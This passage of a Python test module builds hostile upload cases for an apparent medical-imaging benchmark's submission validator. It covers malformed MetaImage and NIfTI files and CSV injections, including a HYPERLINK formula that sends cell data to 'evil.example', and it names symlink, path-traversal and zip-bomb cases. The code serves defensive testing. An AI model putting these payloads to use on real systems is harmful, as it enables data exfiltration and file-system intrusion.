            (f"{PRED}{ctx.ps_case}.raw", _mask_ps(ctx).tobytes()),
        ]
    ),
    note="policy: a .mha must be self-contained (LOCAL); a detached .raw is not a label map",
)
case(
    "mha_mhd_raw_pair",
    "metaimage",
    lambda ctx: zip_of(
        [
            good_hc(ctx),
            (
                f"{PRED}{ctx.ps_case}.mhd",
                mha_pointer(f"{ctx.ps_case}.raw", ctx.ps_mask.shape, header_size=None),
            ),
            (f"{PRED}{ctx.ps_case}.raw", _mask_ps(ctx).tobytes()),
        ]
    ),
    reason=R_UNSUPPORTED + "|" + R_POINTER,
    names=(".mhd",),
)


def _mha_case(kind: str, make: Callable[[Context], bytes], reason: str, **kw) -> None:
    case(kind, "metaimage", with_ps(PS + ".mha", make), reason=reason, names=(".mha",), **kw)


_mha_case(
    "mha_headersize_huge",
    lambda ctx: mha(_mask_ps(ctx), extra=[("HeaderSize", 10**12)]),
    R_UNREADABLE + "|" + R_POINTER + "|HeaderSize",
)
_mha_case(
    "mha_dimsize_negative",
    lambda ctx: mha(_mask_ps(ctx), dim_size="-256 256"),
    R_UNREADABLE + "|" + R_SHAPE,
)
_mha_case(
    "mha_dimsize_zero",
    lambda ctx: mha(_mask_ps(ctx), dim_size="0 0"),
    R_UNREADABLE + "|" + R_SHAPE,
)
_mha_case(
    "mha_3d_volume",
    lambda ctx: mha(np.stack([_mask_ps(ctx), _mask_ps(ctx)])),
    R_SHAPE,
)
_mha_case(
    "mha_ndims_100",
    lambda ctx: mha(_mask_ps(ctx), ndims=100),
    R_UNREADABLE + "|" + R_SHAPE,
)
_mha_case(
    "mha_three_channels",
    lambda ctx: mha(
        np.repeat(_mask_ps(ctx)[:, :, None], 3, axis=2),
        ndims=2,
        dim_size=f"{ctx.ps_mask.shape[1]} {ctx.ps_mask.shape[0]}",
        extra=[("ElementNumberOfChannels", 3)],
    ),
    R_RGB,
)
_mha_case(
    "mha_float_nan",
    lambda ctx: mha(np.where(_mask_ps(ctx) > 0, np.float32("nan"), np.float32(0))),
    R_NOT_INTEGER,
)
_mha_case(
    "mha_float_fraction", lambda ctx: mha(_mask_ps(ctx).astype(np.float32) * 0.7), R_NOT_INTEGER
)
_mha_case("mha_truncated_local_data", lambda ctx: mha(_mask_ps(ctx))[:-1000], R_UNREADABLE)
_mha_case(
    "mha_compressed_garbage",
    lambda ctx: mha(_mask_ps(ctx), compressed=True, data=b"\x78\x9cnot zlib at all" * 20),
    R_UNREADABLE,
)
_mha_case(
    "mha_unknown_element_type",
    lambda ctx: mha(_mask_ps(ctx), element_type="MET_FOO"),
    R_UNREADABLE + "|element type|unsupported",
)
_mha_case(
    "mha_header_binary_junk",
    lambda ctx: b"ObjectType = Image\nNDims = \x00\xff\xfe\x1b[31m\n" + bytes(2000),
    R_UNREADABLE,
)
_mha_case(
    "mha_no_element_data_file",
    lambda ctx: (
        mha_header(
            [
                ("ObjectType", "Image"),
                ("NDims", 2),
                ("DimSize", "256 256"),
                ("ElementType", "MET_UCHAR"),
            ]
        )
        + _mask_ps(ctx).tobytes()
    ),
    R_UNREADABLE + "|ElementDataFile",
)
_mha_case(
    "mha_wrong_values_class_7",
    lambda ctx: mha(_mask_ps(ctx) * 7),
    R_VALUES,
)

# --------------------------------------------------------------------------------------------
# 12. NIfTI with odd metadata.


def _nii_case(
    kind: str, make: Callable[[Context], bytes], reason: str, suffix: str = ".nii", **kw
) -> None:
    case(kind, "nifti", with_ps(PS + suffix, make), reason=reason, names=(suffix,), **kw)


_nii_case(
    "nii_nan",
    lambda ctx: nifti(np.where(_mask_ps(ctx) > 0, np.float32("nan"), np.float32(0))),
    R_NOT_INTEGER,
)
_nii_case(
    "nii_inf",
    lambda ctx: nifti(np.where(_mask_ps(ctx) > 0, np.float32("inf"), np.float32(0))),
    R_NOT_INTEGER,
)
_nii_case(
    "nii_float_fraction", lambda ctx: nifti(_mask_ps(ctx).astype(np.float32) * 0.5), R_NOT_INTEGER
)
_nii_case(
    "nii_scl_slope_fraction",
    lambda ctx: nifti(_mask_ps(ctx), scl_slope=0.3),
    R_NOT_INTEGER,
    note="scaling turns {0,1} into {0,0.3}",
)
_nii_case("nii_3d_volume", lambda ctx: nifti(np.stack([_mask_ps(ctx)] * 3)), R_SHAPE)
_nii_case(
    "nii_4d_timepoints",
    lambda ctx: nifti(np.stack([_mask_ps(ctx)] * 2), dims=[4, *reversed(ctx.ps_mask.shape), 1, 2]),
    R_SHAPE,
)
_nii_case(
    "nii_negative_dims",
    lambda ctx: nifti(_mask_ps(ctx), dims=[2, -256, 256]),
    R_UNREADABLE + "|" + R_SHAPE,
)
_nii_case(
    "nii_dim0_zero",
    lambda ctx: nifti(_mask_ps(ctx), dims=[0, 256, 256]),
    R_UNREADABLE + "|" + R_SHAPE,
)
_nii_case(
    "nii_vox_offset_past_end",
    lambda ctx: nifti(_mask_ps(ctx), vox_offset=1.0e6),
    R_UNREADABLE,
)
_nii_case(
    "nii_vox_offset_nan",
    lambda ctx: nifti(_mask_ps(ctx), vox_offset=float("nan")),
    R_UNREADABLE,
)
_nii_case("nii_truncated", lambda ctx: nifti(_mask_ps(ctx))[:-5000], R_UNREADABLE)
_nii_case(
    "nii_gz_truncated",
    lambda ctx: gz(nifti(_mask_ps(ctx)))[:-30],
    R_UNREADABLE,
    suffix=".nii.gz",
)
_nii_case(
    "nii_rgb24",
    lambda ctx: nifti(
        dims=[2, *reversed(ctx.ps_mask.shape)],
        datatype=128,
        bitpix=24,
        data=np.repeat(_mask_ps(ctx)[:, :, None], 3, axis=2).tobytes(),
    ),
    R_RGB,
)
_nii_case("nii_int16_negative", lambda ctx: nifti(_mask_ps(ctx).astype(np.int16) - 1), R_VALUES)
_nii_case(
    "nii_int64_huge_values",
    lambda ctx: nifti(_mask_ps(ctx).astype(np.int64) * (2**40)),
    R_VALUES,
)
_nii_case("nii_not_nifti_header", lambda ctx: b"\x00" * 348 + _mask_ps(ctx).tobytes(), R_UNREADABLE)
_nii_case(
    "nii_single_file_with_pair_magic",
    lambda ctx: nifti(_mask_ps(ctx), magic=b"ni1\x00"),
    R_UNREADABLE + "|" + R_UNSUPPORTED + "|pair|\\.img",
)
_nii_case("nii_wrong_shape", lambda ctx: nifti(_mask_ps(ctx)[:-5]), R_SHAPE)
case(
    "nii_hdr_img_pair",
    "nifti",
    lambda ctx: zip_of(
        [good_hc(ctx)]
        + [
            (f"{PRED}{ctx.ps_case}{ext}", part)
            for ext, part in zip((".hdr", ".img"), nifti_pair(_mask_ps(ctx)), strict=True)
        ]
    ),
    reason=R_UNSUPPORTED,
    names=(".hdr", ".img"),
)

# --------------------------------------------------------------------------------------------
# 13. HC18 ellipse CSV.


def _csv_case(kind: str, body: Callable[[Context], bytes], reason: str, **kw) -> None:
    case(
        kind,
        "csv",
        lambda ctx: zip_of([("preds/ellipses.csv", body(ctx)), good_ps(ctx)]),
        reason=reason,
        names=kw.pop("names", ("ellipses.csv",)),
        **kw,
    )


_csv_case(
    "csv_nul_in_filename",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}\x00evil.png,30,20,15,10,0.1"]),
    R_CSV + "|" + R_NAME,
)
_csv_case(
    "csv_non_utf8_bytes",
    lambda ctx: _ellipse_csv(ctx, [_ellipse_row(ctx)]).replace(b"angle_rad", b"angle_rad\xff\xfe"),
    R_CSV + "|UTF-8|encoding|cannot read",
)
_csv_case(
    "csv_non_utf8_row",
    lambda ctx: _ellipse_csv(ctx, [_ellipse_row(ctx), "caf\xe9.png,1,1,1,1,0"]).replace(
        "caf\xe9".encode(), b"caf\xe9"
    ),
    R_CSV + "|UTF-8|encoding|cannot read",
)
_csv_case(
    "csv_formula_in_filename",
    lambda ctx: _ellipse_csv(
        ctx, [_ellipse_row(ctx), '"=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,1,1,1,0']
    ),
    R_CSV + "|no case|extra",
)
_csv_case(
    "csv_formula_in_number",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}.png,=1+2,20,15,10,0.1"]),
    R_CSV_ROW,
)
_csv_case(
    "csv_missing_columns",
    lambda ctx: b"filename,center_x_mm,center_y_mm\n" + f"{ctx.hc_case}.png,1,2\n".encode(),
    r"missing column|bad_csv|column",
)
_csv_case(
    "csv_too_few_values",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}.png,30,20"]),
    R_CSV_ROW,
)
_csv_case(
    "csv_nan_values",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}.png,nan,20,15,10,inf"]),
    R_CSV_ROW,
)
_csv_case(
    "csv_negative_axes",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}.png,30,20,-15,10,0.1"]),
    R_CSV_ROW,
)
_csv_case(
    "csv_duplicate_rows",
    lambda ctx: _ellipse_csv(ctx, [_ellipse_row(ctx), _ellipse_row(ctx)]),
    R_DUPLICATE,
)
_csv_case(
    "csv_ansi_in_filename",
    lambda ctx: _ellipse_csv(ctx, [_ellipse_row(ctx), "\x1b[31mansi-row\x1b[0m.png,1,1,1,1,0"]),
    R_CSV + "|no case|extra",
    names=("ansi-row",),
)
_csv_case(
    "csv_header_only",
    lambda ctx: _ellipse_csv(ctx, []),
    r"missing|no (valid )?row|empty",
    names=(HC,),
)
_csv_case(
    "csv_huge_line",
    lambda ctx: _ellipse_csv(ctx, [f"{ctx.hc_case}.png,30,20,15,10," + "9" * 200_000]),
    R_CSV_ROW + "|field larger|too long|large",
)


# --------------------------------------------------------------------------------------------


def corpus() -> list[HostileCase]:
    """Every case, in a stable order; the kinds are unique."""
    kinds = [c.kind for c in CASES]
    duplicates = {k for k in kinds if kinds.count(k) > 1}
    if duplicates:
        raise AssertionError(f"duplicate corpus kinds: {sorted(duplicates)}")
    return list(CASES)


def build_all(ctx: Context) -> dict[str, bytes]:
    """Every case's upload bytes, by kind (a few seconds: the bombs compress 64 MiB each)."""
    return {item.kind: item.build(ctx) for item in corpus()}


#: Cases whose culprit is one member of an otherwise fine archive: the message may name the
#: upload or that member (either tells the participant what to fix).
MEMBER_NAMES: dict[str, tuple[str, ...]] = {
    **{
        kind: (UPLOAD, HC + ".png")
        for kind in (
            "bomb_zip_ratio",
            "bomb_zip_lying_size",
            "bomb_tar_gz_ratio",
            "bomb_tar_bz2_ratio",
            "bomb_tar_xz_ratio",
        )
    },
    **{
        kind: (UPLOAD, PS + ".png")
        for kind in (
            "link_tar_symlink_etc_passwd",
            "link_tar_symlink_relative_up",
            "link_tar_hardlink_etc_passwd",
            "link_tar_hardlink_to_member",
            "link_zip_symlink_attr",
            "special_tar_chardev",
            "special_tar_blockdev",
            "special_tar_fifo",
            "special_zip_chardev_attr",
            "zip_encrypted_member",
            "zip_aes_method_99",
            "zip_unsupported_method_ppmd",
            "zip_duplicate_member",
            "zip_bad_crc",
            "zip_central_offset_past_end",
            "tar_duplicate_member",
            "tar_truncated_mid_data",
            "tar_declared_size_past_end",
        )
    },
    **{
        kind: (UPLOAD, PS + ".mha")
        for kind in ("link_tar_symlink_truth_label", "link_tar_hardlink_truth_label")
    },
    "zip_header_name_mismatch": (UPLOAD, PS),
    "tar_bad_checksum_second_member": (UPLOAD, PS),
    "tar_truncated_mid_second_header": (UPLOAD, PS),
    "link_tar_symlink_truth_dir": (UPLOAD, "preds"),
    "link_tar_symlink_dir_then_write_through": (UPLOAD, "esc"),
    "bomb_zip_overlapping_members": (UPLOAD, "m000.png", "k.png"),
    **{
        kind: (UPLOAD, "fetalbench-hostile-canary")
        for kind in (
            "traversal_zip_dotdot",
            "traversal_zip_absolute",
            "traversal_zip_backslash_dotdot",
            "traversal_tar_dotdot",
            "traversal_tar_absolute",
            "traversal_tar_pax_path",
            "traversal_tar_gnu_longname",
        )
    },
    "traversal_zip_dotdot_inside": (UPLOAD, "escaped.png"),
    "traversal_zip_drive_letter": (UPLOAD, "x.png"),
    "traversal_zip_drive_backslash": (UPLOAD, "preds.png"),
    "traversal_zip_unc_path": (UPLOAD, "x.png"),
    "name_zip_component_too_long": (UPLOAD, "nnnnnnnnnn"),
    "bomb_deep_folders_past_path_max": (UPLOAD, "dddddddddd"),
    "name_zip_name_longer_than_64k": (UPLOAD, "a/a/a/a/a/"),
}


def resolved_names(item: HostileCase, ctx: Context) -> tuple[str, ...]:
    """The names one of which a failed detail must contain, with the context's case ids and
    the upload's name filled in."""
    return tuple(
        n.replace(UPLOAD, item.upload_name).replace(PS, ctx.ps_case).replace(HC, ctx.hc_case)
        for n in item.required_names()
    )
